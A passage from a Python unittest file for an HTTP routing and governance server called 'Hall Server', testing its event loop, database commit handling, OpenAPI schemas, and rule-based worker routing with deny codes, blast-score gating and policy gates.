            while len(rest) < length and time.monotonic() < deadline:
                rest += sock.recv(65536)
            self.assertEqual(json.loads(rest)["status"], "ok")

    def test_garbage_request_line_gets_a_json_error(self):
        host, port = self.server.server_address[:2]
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"NONSENSE\r\n\r\n")
            data = sock.recv(65536)
        self.assertTrue(data.startswith(b"HTTP/1.1 400"), data[:40])
        self.assertIn(b'"error"', data)

    def test_chunked_body_is_read(self):
        payload = json.dumps({"decision_id": "chunky"}).encode()
        raw = b"%x\r\n%s\r\n0\r\n\r\n" % (len(payload), payload)
        status, _, body = self.call("POST", "/decisions/ingest", raw=raw,
                                    headers={"Transfer-Encoding": "chunked",
                                             "Content-Type": "application/json"})
        self.assertEqual((status, body["decision_id"]), (201, "chunky"))

    def test_head_has_no_body(self):
        self.client.conn.request("HEAD", "/health")
        response = self.client.conn.getresponse()
        self.assertEqual(response.status, 200)
        self.assertEqual(response.read(), b"")


class EventLoopTest(ServerCase):
    """Plain HTTP is served by one event loop; it answers the inline routes
    itself and hands everything else, bytes read so far included, to a
    thread of its own."""

    def exchange_on(self, sock, data, answers):
        """Send ``data`` on an open socket; return the raw bytes of ``answers`` responses."""
        sock.sendall(data)
        raw = b""
        while len(statuses(raw)) < answers or not raw.endswith(b"}"):
            chunk = sock.recv(65536)
            self.assertTrue(chunk, "the hall closed the connection after %r" % raw[-200:])
            raw += chunk
        return raw

    def test_pipelined_requests_are_answered_in_order_across_a_hand_over(self):
        ingest = json.dumps({"decision_id": "piped"}).encode()
        data = (b"GET /health HTTP/1.1\r\n\r\n"
                b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/json\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(ingest), ingest) +
                b"GET /openapi.json HTTP/1.1\r\n\r\n"       # not inline: a thread takes over
                b"GET /status HTTP/1.1\r\n\r\n")
        host, port = self.server.server_address[:2]
        with socket.create_connection((host, port), timeout=5) as sock:
            raw = self.exchange_on(sock, data, 4)
            self.assertEqual(statuses(raw), [200, 201, 200, 200])
            self.assertIn(b'"recorded": true', raw)
            self.assertIn(b'"openapi": "3.0', raw)
            self.assertIn(b'"decisions_total": 1', raw)
            # The thread keeps the connection: more requests are still answered.
            raw = self.exchange_on(sock, b"GET /health HTTP/1.1\r\n\r\n", 1)
            self.assertEqual(statuses(raw), [200])
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions"), [("piped",)])

    def post_while_the_writer_is_held(self, path, body, meanwhile):
        """POST ``body`` on a connection of its own while the writer cannot
        commit, run ``meanwhile()``, see that no answer came, then let the
        writer go; the statuses of what the connection was answered."""
        host, port = self.server.server_address[:2]
        data = json.dumps(body).encode()
        with self.hall.store._write_lock:
            sock = socket.create_connection((host, port), timeout=5)
            try:
                sock.sendall(b"POST %s HTTP/1.1\r\nContent-Type: application/json\r\n"
                             b"Content-Length: %d\r\n\r\n%s" % (path.encode(), len(data), data))
                meanwhile()
                sock.settimeout(0.3)
                with self.assertRaises(socket.timeout):
                    sock.recv(65536)            # no answer before the commit
            except BaseException:
                sock.close()
                raise
        with sock:
            sock.settimeout(5)
            return statuses(self.exchange_on(sock, b"", 1))

    def test_a_logged_write_is_answered_once_committed_and_others_are_served_meanwhile(self):
        def meanwhile():                        # the loop is free: others are answered at once
            self.assertEqual(self.call("GET", "/health")[0], 200)
            self.assertEqual(self.call("GET", "/status")[0], 200)
            self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(0,)])
        self.assertEqual(self.post_while_the_writer_is_held(
            "/decisions/ingest", {"decision_id": "held"}, meanwhile), [201])
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions"), [("held",)])

    def test_a_worker_enrolled_again_as_stored_is_answered_without_the_writer(self):
        record = worker_record()
        self.enroll(record)

        def meanwhile():                        # (the change waits for its commit)
            status, _, answer = self.call("POST", "/enroll", record)
            self.assertEqual((status, answer["updated"]), (200, True))
            self.assertEqual(self.db_rows("SELECT risk_tier FROM enrollments"), [("low",)])
        self.assertEqual(self.post_while_the_writer_is_held(
            "/enroll", worker_record(risk_tier="medium"), meanwhile), [200])
        self.assertEqual(self.db_rows("SELECT risk_tier FROM enrollments"), [("medium",)])
        self.assertEqual(self.call("GET", "/workers")[2]["workers"][0]["risk_tier"], "medium")

    def test_an_answer_made_while_its_commit_fails_is_not_sent(self):
        self.enroll(worker_record())
        loop, store = self.server.loop, self.hall.store
        writer, made = store._writer, []

        class CommitFails(object):            # the write connection, but its COMMIT fails
            def __getattr__(self, name):
                return getattr(writer, name)

            def execute(self, sql, *args):
                if sql == "COMMIT" and not made and threading.current_thread() is not \
                        store._writer_thread and any(e.conn for e in loop.parked):
                    # The encoder has made the decision's answer meanwhile.
                    made.extend(poll(lambda: [e.encoded for e in loop.parked if e.encoded]))
                    raise sqlite3.OperationalError("disk I/O error")
                return writer.execute(sql, *args)
        body = json.dumps(route_body()).encode()
        request = (b"POST /api/route HTTP/1.1\r\nContent-Type: application/json\r\n"
                   b"Authorization: Bearer %s\r\nContent-Length: %d\r\n\r\n%s"
                   % (self.router_token.encode(), len(body), body))
        host, port = self.server.server_address[:2]
        with socket.create_connection((host, port), timeout=5) as sock:
            self.assertEqual(statuses(self.exchange_on(sock, request, 1)), [200])
            # (The token's last use is written now, by the writer thread.)
            self.assertTrue(poll(lambda: self.db_rows(
                "SELECT last_used_at FROM tokens WHERE name = 'test router'") != [(None,)]))
            store._writer = CommitFails()
            try:
                failed = self.exchange_on(sock, request, 1)
            finally:
                store._writer = writer
            self.assertEqual(len(made), 1)
            self.assertEqual(statuses(made[0][1]), [200])   # made, but not sent:
            self.assertEqual(statuses(failed), [503])
            self.assertIn(b'"code": "DB_UNAVAILABLE"', failed)
            self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(1,)])
            # The next commits succeed (the decision, and STORAGE_RECOVERED).
            raw = self.exchange_on(sock, request, 1)
        self.assertEqual(statuses(raw), [200])
        decision_id = json.loads(raw.split(b"\r\n\r\n", 1)[1])["decision_id"]
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE decision_id = ?",
                                      (decision_id,)), [(1,)])

    def test_the_loop_answers_without_its_encoder(self):
        loop = self.server.loop
        encoder = loop.encoder
        loop.to_encode.put(None)                # (how a stop ends it)
        encoder.join(5)
        self.assertFalse(encoder.is_alive())
        host, port = self.server.server_address[:2]
        request = (b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/json\r\n"
                   b"Content-Length: %d\r\n\r\n%s")
        with socket.create_connection((host, port), timeout=10) as sock, \
                contextlib.redirect_stderr(io.StringIO()) as said:
            body = json.dumps({"decision_id": "first"}).encode()
            first = self.exchange_on(sock, request % (len(body), body), 1)
            body = json.dumps({"decision_id": "second"}).encode()
            second = self.exchange_on(sock, request % (len(body), body), 1)
        self.assertEqual((statuses(first), statuses(second)), ([201], [201]))
        self.assertIn("the encoder thread is gone", said.getvalue())
        self.assertIsNone(loop.encoder)
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions ORDER BY decision_id"),
                         [("first",), ("second",)])

    def test_a_database_locked_by_another_connection_does_not_stop_the_loop(self):
        blocker = sqlite3.connect(self.db, isolation_level=None)
        blocker.execute("BEGIN IMMEDIATE")
        host, port = self.server.server_address[:2]
        body = json.dumps({"decision_id": "waited"}).encode()
        try:
            with socket.create_connection((host, port), timeout=10) as sock:
                sock.sendall(b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: "
                             b"application/json\r\nContent-Length: %d\r\n\r\n%s"
                             % (len(body), body))
                self.assertEqual(poll(lambda: self.server._in_flight == 1), True)
                # The write waits for the lock in the writer thread, not in the loop.
                self.assertEqual(self.call("GET", "/status")[0], 200)
                self.assertEqual(self.call("GET", "/health")[0], 200)
                blocker.execute("ROLLBACK")
                raw = self.exchange_on(sock, b"", 1)
        finally:
            blocker.close()
        self.assertEqual(statuses(raw), [201])
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions"), [("waited",)])

    def test_a_decision_is_announced_only_once_stored(self):
        subscription = self.hall.subscribe(types={"decision"})
        body = json.dumps(route_body()).encode()
        host, port = self.server.server_address[:2]
        try:
            with socket.create_connection((host, port), timeout=5) as sock:
                with self.hall.store._write_lock:
                    sock.sendall(b"POST /api/route HTTP/1.1\r\nContent-Type: application/json"
                                 b"\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n%s"
                                 % (self.router_token.encode(), len(body), body))
                    with self.assertRaises(queue.Empty):
                        subscription.queue.get(timeout=0.3)
                event = subscription.queue.get(timeout=5)
                raw = self.exchange_on(sock, b"", 1)
        finally:
            self.hall.events.unsubscribe(subscription)
        self.assertEqual(statuses(raw), [200])
        decision_id = json.loads(raw.split(b"\r\n\r\n", 1)[1])["decision_id"]
        self.assertEqual(event[1:], ("decision", event[2]))
        self.assertEqual(event[2]["decision_id"], decision_id)
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions"), [(decision_id,)])

    def test_a_route_that_must_wait_for_a_write_is_answered_by_a_thread(self):
        self.enroll(worker_record())
        body = json.dumps(route_body(env="prod", data_label="SECRET", qos_class="P0")).encode()
        host, port = self.server.server_address[:2]
        with socket.create_connection((host, port), timeout=5) as sock:
            with self.hall.store._write_lock:   # opening its approval cannot commit yet
                sock.sendall(b"POST /api/route HTTP/1.1\r\nContent-Type: application/json"
                             b"\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n%s"
                             % (self.router_token.encode(), len(body), body))
                self.assertEqual(poll(lambda: self.server._in_flight == 1), True)
                # The loop did not wait for it: another connection is answered.
                self.assertEqual(self.call("GET", "/health")[0], 200)
            raw = self.exchange_on(sock, b"", 1)
            # The connection itself stays with the loop.
            port = sock.getsockname()[1]
            self.assertTrue(any(c.client[1] == port for c in self.server.loop.connections))
        self.assertEqual(statuses(raw), [200])
        self.assertIn(b'"DENY_REQUIRES_HUMAN"', raw)
        self.assertEqual(self.db_rows("SELECT status FROM approvals"), [("pending",)])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(1,)])

    def test_a_request_a_thread_answers_instead_is_rate_limited_once(self):
        self.restart(rate_limit=1, rate_burst=2)
        self.hall.enroll(worker_record())       # (over HTTP, a thread would keep the connection)
        gated = dict(env="prod", data_label="SECRET", qos_class="P0")
        for n in range(2):                      # each opens its approval: a thread answers
            status, _, body = self.route(request={"n": n}, **gated)
            self.assertEqual((status, body["deny_reason"]), (200, "DENY_REQUIRES_HUMAN"))

    def test_requests_it_does_not_read_itself_get_the_same_answers(self):
        cases = [
            # HTTP/1.0, chunked, Expect and a long head are read by a thread.
            (b"GET /health HTTP/1.0\r\n\r\n", [200]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/json\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n", [201]),
            (b"GET /health HTTP/1.1\r\nX-Long: " + b"a" * 70000 + b"\r\n\r\n", [431]),
            (b"GET /health HTTP/1.1\r\nBad-Header : x\r\n\r\n", [400]),
            (b"GET /health HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Length: %d\r\n\r\n"
             % (hall.DEFAULT_MAX_BODY + 1), [413]),
            (b"GET /health HTTP/1.1\n\n", [200]),
            (b"GET /health HTTP/1.1\r\nHost: x\n\r\n", [200]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
             [413]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/json\r\n"
             b"Content-Length: 10\r\n\r\n{}", [400]),        # then the client stops sending
        ]
        for data, expected in cases:
            self.assertEqual(statuses(raw_exchange(self.server, data)), expected, data[:60])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(1,)])
        self.assertEqual(poll(lambda: self.server._connections == 0), True)
        self.assertEqual(self.server._in_flight, 0)


class OpenApiTest(ServerCase):

    def test_document_describes_every_route(self):
        status, _, doc = self.call("GET", "/openapi.json")
        self.assertEqual(status, 200)
        self.assertTrue(doc["openapi"].startswith("3.0."))
        self.assertEqual(doc["info"]["title"], "Hall Server API")
        self.assertEqual(doc["info"]["version"], "0.3.0")
        served = {(r.method.lower(), r.path) for r in hall.ROUTES}
        documented = {(m, p) for p, ops in doc["paths"].items() for m in ops}
        self.assertEqual(served, documented)
        for path, operations in doc["paths"].items():
            for method, op in operations.items():
                self.assertTrue(op["responses"], (method, path))
                self.assertIn("summary", op)

    def test_real_responses_satisfy_the_schemas(self):
        self.enroll(worker_record())
        self.route()
        self.call("POST", "/decisions/ingest", {"blast_score": 5})
        self.hall.raise_alert("info", "TEST", "x", worker_id="w")
        doc = self.call("GET", "/openapi.json")[2]
        samples = {"/health": None, "/status": None, "/workers": None, "/dispatches": None,
                   "/dispatches/active": None, "/alerts": None}
        for path in samples:
            status, _, body = self.call("GET", path)
            check_schema(self, body, doc["paths"][path]["get"]["responses"][str(status)]
                         ["content"]["application/json"]["schema"])
        status, _, body = self.route()
        check_schema(self, body, doc["paths"]["/api/route"]["post"]["responses"]["200"]
                     ["content"]["application/json"]["schema"])
        status, _, body = self.call("POST", "/enroll", worker_record("w.new"))
        check_schema(self, body, doc["paths"]["/enroll"]["post"]["responses"]["201"]
                     ["content"]["application/json"]["schema"])
        status, _, body = self.call("GET", "/nope")
        check_schema(self, body, doc["components"]["schemas"]["Error"])

    def test_schema_problem_names_the_first_breach_by_its_place(self):
        schema = hall.object_of(["a", "b"], a=hall.INTEGER, b=hall.array_of(hall.object_of(
            ["c"], c={"type": "string", "enum": ["x", "y"]}, d=hall.nullable(hall.BOOLEAN))))
        fits = {"a": 1, "b": [{"c": "x", "d": None}, {"c": "y", "d": True}], "extra": 0}
        self.assertIsNone(hall.schema_problem(fits, schema))
        cases = [(None, "$ is null"), ([], "$ is not of type object"),
                 ({"b": []}, "$ lacks a"), ({"a": True, "b": []}, "$.a is not of type integer"),
                 ({"a": 1.5, "b": []}, "$.a is not of type integer"),
                 ({"a": 1, "b": {}}, "$.b is not of type array"),
                 ({"a": 1, "b": [{"c": "x"}, {}]}, "$.b[1] lacks c"),
                 ({"a": 1, "b": [{"c": "z"}]}, "$.b[0].c is not one of x, y"),
                 ({"a": 1, "b": [{"c": "x", "d": 0}]}, "$.b[0].d is not of type boolean")]
        for value, problem in cases:
            self.assertEqual(hall.schema_problem(value, schema), problem, value)


# -- the pure router -------------------------------------------------------------

def registry_of(*records):
    """A Registry snapshot from worker records, enrolled in the given order."""
    enrollments = []
    for index, record in enumerate(records):
        enrollments.append(hall.Enrollment(
            "e%d" % index, record["worker_id"], record["worker_species_id"],
            record["capabilities"], record.get("risk_tier", "low"),
            "2026-01-01T00:00:%02d.000000+00:00" % index, record.get("artifact_hash", ""), record))
    return hall.Registry(enrollments)


def rule(rule_id, match=None, candidates=(), controls=(), **decision):
    decision = dict(decision, candidate_workers_ranked=[
        {"worker_species_id": c, "score_hint": 1.0} for c in candidates],
        required_controls_suggested=list(controls))
    return {"rule_id": rule_id, "match": match or {}, "decision": decision}


def decide(body, rules=None, registry=None, **kwargs):
    inp = hall.parse_route_input(route_body(**body))
    registry = registry or hall.Registry()
    ruleset = hall.compile_rules({"rules": rules}) if rules is not None else registry.auto_rules
    return hall.decide(inp, ruleset, registry, **kwargs)


SUMMARIZER = worker_record("w.sum", "wrk.doc.summarizer", ["cap.doc.summarize"])


class RouterTest(unittest.TestCase):

    def assertDenied(self, decision, code):
        self.assertIs(decision["denied"], True)
        self.assertEqual(decision["deny_reason_if_denied"]["code"], code)
        self.assertEqual(decision["deny_reason"], code)
        self.assertIs(decision["allowed"], False)
        self.assertIsNone(decision["selected_worker_species_id"])
        self.assertIsNone(decision["worker_id"])
        denied = [e for e in decision["telemetry_envelopes"] if e["event_id"] == "evt.os.task.denied"]
        self.assertEqual(len(denied), 1)
        self.assertEqual(denied[0]["deny_code"], code)

    def assertAllowed(self, decision, species):
        self.assertIs(decision["denied"], False, decision["deny_reason_if_denied"])
        self.assertEqual(decision["selected_worker_species_id"], species)

    def test_no_rules_fails_closed(self):
        d = decide({}, rules=[])
        self.assertDenied(d, "DENY_NO_MATCHING_RULE")
        self.assertEqual(d["matched_rule_id"], "NO_MATCH")

    def test_no_workers_means_no_auto_rule(self):
        self.assertDenied(decide({}), "DENY_NO_MATCHING_RULE")

    def test_unknown_capability(self):
        self.assertDenied(decide({"capability_id": "cap.unknown"}, registry=registry_of(SUMMARIZER)),
                          "DENY_NO_MATCHING_RULE")

    def test_auto_rule_selects_enrolled_worker(self):
        d = decide({}, registry=registry_of(SUMMARIZER))
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual(d["worker_id"], "w.sum")
        self.assertEqual(d["matched_rule_id"], "auto.cap.doc.summarize.wrk.doc.summarizer")

    def test_auto_rule_ranks_lower_risk_then_older(self):
        risky = worker_record("w.a", "wrk.a", ["cap.doc.summarize"], risk_tier="high")
        old = worker_record("w.b", "wrk.b", ["cap.doc.summarize"], risk_tier="low")
        young = worker_record("w.c", "wrk.c", ["cap.doc.summarize"], risk_tier="low")
        d = decide({}, registry=registry_of(risky, old, young))
        self.assertEqual([c["worker_species_id"] for c in d["candidate_workers_ranked"]],
                         ["wrk.b", "wrk.c", "wrk.a"])
        self.assertAllowed(d, "wrk.b")
        self.assertEqual([c["skip_reason"] for c in d["candidate_workers_ranked"]],
                         [None, "already_selected", "already_selected"])

    def test_first_match_wins(self):
        rules = [rule("r.first", {"capability_id": "cap.doc.summarize"}, ["wrk.doc.summarizer"]),
                 rule("r.second", {"capability_id": "cap.doc.summarize", "env": "dev"},
                      ["wrk.doc.summarizer"])]
        d = decide({}, rules=rules, registry=registry_of(SUMMARIZER))
        self.assertEqual(d["matched_rule_id"], "r.first")
        self.assertAllowed(d, "wrk.doc.summarizer")

    def test_in_and_any_conditions(self):
        rules = [rule("r.in", {"data_label": {"in": ["INTERNAL", "CONFIDENTIAL"]},
                               "tenant_id": {"any": True}}, ["wrk.doc.summarizer"]),
                 rule("r.public", {"data_label": "PUBLIC"}, ["wrk.doc.summarizer"])]
        registry = registry_of(SUMMARIZER)
        self.assertEqual(decide({"data_label": "CONFIDENTIAL"}, rules, registry)["matched_rule_id"],
                         "r.in")
        self.assertEqual(decide({"data_label": "PUBLIC"}, rules, registry)["matched_rule_id"],
                         "r.public")
        self.assertDenied(decide({"data_label": "SECRET"}, rules, registry),
                          "DENY_NO_MATCHING_RULE")

    def test_tenant_and_qos_conditions(self):
        rules = [rule("r.acme", {"tenant_id": "org.acme", "qos_class": "P0"}, ["wrk.doc.summarizer"])]
        registry = registry_of(SUMMARIZER)
        self.assertAllowed(decide({"qos_class": "P0"}, rules, registry), "wrk.doc.summarizer")
        self.assertDenied(decide({"qos_class": "P1"}, rules, registry), "DENY_NO_MATCHING_RULE")
        self.assertDenied(decide({"tenant_id": "org.other", "qos_class": "P0"}, rules, registry),
                          "DENY_NO_MATCHING_RULE")

    def test_env_routing_and_staging_alias(self):
        devonly = worker_record("w.dev", "wrk.dev", ["cap.doc.summarize"],
                                allowed_environments=["dev"])
        prod = worker_record("w.prod", "wrk.prod", ["cap.doc.summarize"],
                             allowed_environments=["prod", "staging"])
        registry = registry_of(devonly, prod)
        self.assertAllowed(decide({"env": "dev"}, registry=registry), "wrk.dev")
        d = decide({"env": "prod"}, registry=registry)
        self.assertAllowed(d, "wrk.prod")
        self.assertEqual([c["skip_reason"] for c in d["candidate_workers_ranked"]],
                         ["unavailable", None])
        self.assertAllowed(decide({"env": "stage"}, registry=registry), "wrk.prod")
        self.assertDenied(decide({"env": "edge"}, registry=registry), "DENY_NO_MATCHING_RULE")
        rules = [rule("r.stage", {"env": "staging"}, ["wrk.prod"])]
        self.assertAllowed(decide({"env": "stage"}, rules, registry), "wrk.prod")

    def test_undeclared_environments_allow_any(self):
        self.assertAllowed(decide({"env": "edge"}, registry=registry_of(SUMMARIZER)),
                           "wrk.doc.summarizer")

    def test_missing_required_controls(self):
        registry = registry_of(worker_record("w.sum", "wrk.doc.summarizer", ["cap.doc.summarize"],
                                             currently_implements=["ctrl.audit", "not-a-control"]))
        rules = [rule("r.ctl", {}, ["wrk.doc.summarizer"],
                      controls=["ctrl.audit", "ctrl.redaction", "ctrl.zeta"])]
        d = decide({}, rules, registry)
        self.assertDenied(d, "DENY_MISSING_REQUIRED_CONTROLS")
        self.assertEqual(d["deny_reason_if_denied"]["missing_controls"],
                         ["ctrl.redaction", "ctrl.zeta"])
        self.assertEqual(d["required_controls_effective"],
                         ["ctrl.audit", "ctrl.redaction", "ctrl.zeta"])
        ok = [rule("r.ok", {}, ["wrk.doc.summarizer"], controls=["ctrl.audit"])]
        self.assertAllowed(decide({}, ok, registry), "wrk.doc.summarizer")
        junk = [rule("r.junk", {}, ["wrk.doc.summarizer"], controls=["not-a-control"])]
        self.assertDenied(decide({}, junk, registry), "DENY_MISSING_REQUIRED_CONTROLS")

    def test_a_namespaced_worker_fits_and_vouches_inside_its_namespace_only(self):
        registry = registry_of(worker_record("org.a.sum", "wrk.doc.summarizer",
                                             ["cap.doc.summarize"], namespace="org.a",
                                             currently_implements=["ctrl.audit"]),
                               worker_record("w.other", "wrk.other", ["cap.other"],
                                             namespace="org",
                                             currently_implements=["ctrl.zeta"]))
        rules = [rule("r.ctl", {}, ["wrk.doc.summarizer"], controls=["ctrl.audit", "ctrl.zeta"])]
        self.assertAllowed(decide({"tenant_id": "org.a.team"}, rules, registry),
                           "wrk.doc.summarizer")
        d = decide({"tenant_id": "org.b"}, rules, registry)
        self.assertDenied(d, "DENY_MISSING_REQUIRED_CONTROLS")
        self.assertEqual(d["deny_reason_if_denied"]["missing_controls"], ["ctrl.audit"])
        self.assertDenied(decide({"tenant_id": "org.b"}, registry=registry),
                          "DENY_NO_AVAILABLE_WORKER")
        self.assertDenied(decide({"tenant_id": "other"}, rules, registry),
                          "DENY_MISSING_REQUIRED_CONTROLS")

    def test_missing_correlation_id(self):
        registry = registry_of(SUMMARIZER)
        for blank in ("", "   "):
            self.assertDenied(decide({"correlation_id": blank}, registry=registry),
                              "DENY_MISSING_CORRELATION_ID")
        d = decide({}, registry=registry)
        uuid.UUID(d["correlation_id"])          # generated when omitted

    def test_blank_tenant(self):
        for blank in ("", "  \t"):
            self.assertDenied(decide({"tenant_id": blank}, registry=registry_of(SUMMARIZER)),
                              "DENY_MISSING_TENANT_ID")

    def test_blast_gate_in_prod(self):
        registry = registry_of(SUMMARIZER)
        # 10 + 30 CONFIDENTIAL + 15 prod + 15 writes = 70: allowed, scored
        d = decide({"env": "prod", "data_label": "CONFIDENTIAL", "request": {"writes": True}},
                   registry=registry)
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual(d["blast_score"], 70)
        scored = [e for e in d["telemetry_envelopes"] if e["event_id"] == "evt.gov.blast_scored"]
        self.assertEqual(scored[0]["blast_score"], 70)
        # 10 + 50 SECRET + 15 prod + 10 P0 = 85: denied, needs a human
        d = decide({"env": "prod", "data_label": "SECRET", "qos_class": "P0"}, registry=registry)
        self.assertDenied(d, "DENY_REQUIRES_HUMAN")
        self.assertEqual(d["blast_score"], 85)
        # 10 + 40 RESTRICTED + 15 edge + 15 egress = 80: allowed
        d = decide({"env": "edge", "data_label": "RESTRICTED", "request": {"external_call": 1}},
                   registry=registry)
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual(d["blast_score"], 80)
        # everything: capped at 100
        d = decide({"env": "prod", "data_label": "SECRET", "qos_class": "P0",
                    "request": {"egress": True, "mutates_state": True}}, registry=registry)
        self.assertEqual(d["blast_score"], 100)

    def test_caller_blast_score_raises_never_lowers(self):
        registry = registry_of(SUMMARIZER)
        d = decide({"env": "prod", "blast_score": 90}, registry=registry)
        self.assertDenied(d, "DENY_REQUIRES_HUMAN")
        self.assertEqual(d["blast_score"], 90)
        d = decide({"env": "prod", "data_label": "SECRET", "qos_class": "P0", "blast_score": 0},
                   registry=registry)
        self.assertDenied(d, "DENY_REQUIRES_HUMAN")
        self.assertEqual(d["blast_score"], 85)
        d = decide({"env": "dev", "blast_score": 99}, registry=registry)   # not scored in dev
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual(d["blast_score"], 99)

    def test_blast_scoring_control_scores_in_dev_without_gate(self):
        registry = registry_of(worker_record("w.sum", "wrk.doc.summarizer", ["cap.doc.summarize"],
                                             currently_implements=[hall.CTRL_BLAST]))
        rules = [rule("r.scored", {}, ["wrk.doc.summarizer"], controls=[hall.CTRL_BLAST])]
        d = decide({"data_label": "SECRET", "qos_class": "P0", "request": {"writes": True}},
                   rules, registry)
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual(d["blast_score"], 85)

    def test_blast_score_out_of_range_and_bool(self):
        registry = registry_of(SUMMARIZER)
        for score in (-1, 101, 10 ** 30):
            self.assertDenied(decide({"blast_score": score}, registry=registry),
                              "DENY_INVALID_INPUT")
        for score in (True, False, "5", 5.0):
            with self.assertRaises(hall.HallError) as caught:
                decide({"blast_score": score}, registry=registry)
            self.assertEqual(caught.exception.status, 400)

    def test_shadow_rules_denied_in_prod_and_edge_routed_in_dev(self):
        rules = [rule("r.broad", {"capability_id": "cap.doc.summarize"}, ["wrk.doc.summarizer"]),
                 rule("r.narrow", {"capability_id": "cap.doc.summarize", "env": "prod"},
                      ["wrk.doc.summarizer"])]
        registry = registry_of(SUMMARIZER)
        for env in ("prod", "edge"):
            d = decide({"env": env}, rules, registry)
            self.assertDenied(d, "DENY_SHADOW_RULES_DETECTED")
            self.assertEqual(d["deny_reason_if_denied"]["shadowed_rules"], ["r.narrow"])
        self.assertAllowed(decide({"env": "dev"}, rules, registry), "wrk.doc.summarizer")

    def test_shadow_detection_understands_in_any_and_aliases(self):
        def shadows(*matches):
            return hall.compile_rules({"rules": [rule("r%d" % i, m) for i, m in
                                                 enumerate(matches)]}).shadowed
        self.assertEqual(shadows({"env": {"in": ["dev", "prod"]}}, {"env": "prod"}),
                         [("r0", "r1")])
        self.assertEqual(shadows({"env": {"any": True}}, {"env": "prod", "tenant_id": "t"}),
                         [("r0", "r1")])
        self.assertEqual(shadows({"env": "staging"}, {"env": "stage"}), [("r0", "r1")])
        self.assertEqual(shadows({"env": "prod"}, {"env": {"in": ["prod", "dev"]}}), [])
        self.assertEqual(shadows({"env": "prod", "data_label": "PUBLIC"}, {"env": "prod"}), [])
        self.assertEqual(shadows({"env": "prod"}, {"env": "dev"}), [])

    def test_auto_rules_never_shadow(self):
        a = worker_record("w.a", "wrk.a", ["cap.doc.summarize", "cap.x"])
        b = worker_record("w.b", "wrk.b", ["cap.doc.summarize"])
        self.assertAllowed(decide({"env": "prod"}, registry=registry_of(a, b)), "wrk.a")

    def test_a_request_json_has_no_form_for_is_denied_not_raised(self):
        for request in ({"writes": {1, 2}}, {1: 2, "a": 3}, {"x": object()}):
            d = decide({"request": request}, registry=registry_of(SUMMARIZER))
            self.assertDenied(d, "DENY_INVALID_INPUT")
            self.assertEqual((d["deny_reason_if_denied"]["field"], d["artifact_hash"]),
                             ("request", None))
        decision = decide({}, registry=registry_of(SUMMARIZER))
        decision["receipt"] = hall.sign_receipt(decision, hall.receipt_key_id(b"secret"),
                                                b"secret")
        self.assertTrue(hall.verify_receipt(decision, b"secret"))
        for mac in ("\u00e9", "\ud800"):
            forged = dict(decision, receipt=dict(decision["receipt"], mac=mac))
            self.assertIs(hall.verify_receipt(forged, b"secret"), False)
        self.assertIs(hall.verify_receipt(dict(decision, tenant_id={1, 2}), b"secret"), False)

    def test_policy_gate_required_but_unconfigured(self):
        rules = [rule("r.gated", {}, ["wrk.doc.summarizer"],
                      escalation={"policy_gate": True, "rationale": "sensitive"})]
        d = decide({}, rules, registry_of(SUMMARIZER))
        self.assertDenied(d, "DENY_POLICY_GATE_UNCONFIGURED")
        self.assertEqual(d["escalation_effective"]["rationale"], "sensitive")

    def test_policy_gate_outcomes(self):
        registry = registry_of(SUMMARIZER)
        policy = hall.compile_policy({"version": "p-7", "default": "ALLOW", "rules": [
            {"id": "no-secret", "match": {"data_label": "SECRET"}, "outcome": "DENY",
             "reason": "no secrets here"},
            {"id": "human-for-acme", "match": {"tenant_id": "org.acme*", "env": "stage"},
             "outcome": "REQUIRE_HUMAN"}]})
        d = decide({}, registry=registry, policy=policy)
        self.assertAllowed(d, "wrk.doc.summarizer")
        gated = [e for e in d["telemetry_envelopes"] if e["event_id"] == "evt.os.policy.gated"]
        self.assertEqual((gated[0]["outcome"], gated[0]["policy_version"]), ("ALLOW", "p-7"))
        d = decide({"data_label": "SECRET"}, registry=registry, policy=policy)
        self.assertDenied(d, "DENY_POLICY_GATE")
        self.assertEqual(d["deny_reason_if_denied"]["message"], "no secrets here")
        d = decide({"env": "stage", "tenant_id": "org.acme.eu"}, registry=registry, policy=policy)
        self.assertDenied(d, "DENY_REQUIRES_HUMAN_APPROVAL")
        self.assertEqual(d["deny_reason_if_denied"]["policy_rule_id"], "human-for-acme")
        for alias in ("staging", "stage"):      # either name matches a rule written with either
            for written in ("staging", "stage"):
                gate = hall.compile_policy({"version": "p", "default": "ALLOW", "rules": [
                    {"id": "no-stage", "match": {"env": written}, "outcome": "DENY"}]})
                self.assertDenied(decide({"env": alias}, registry=registry, policy=gate),
                                  "DENY_POLICY_GATE")
        seen = []
        decide({"env": "staging"}, registry=registry,
               policy=lambda values: seen.append(values["env"]) or "ALLOW")
        self.assertEqual(seen, ["staging"])     # a callable gate sees what the caller sent
        for broken in (lambda values: "MAYBE", lambda values: 1 / 0, lambda values: None):
            self.assertDenied(decide({}, registry=registry, policy=broken),
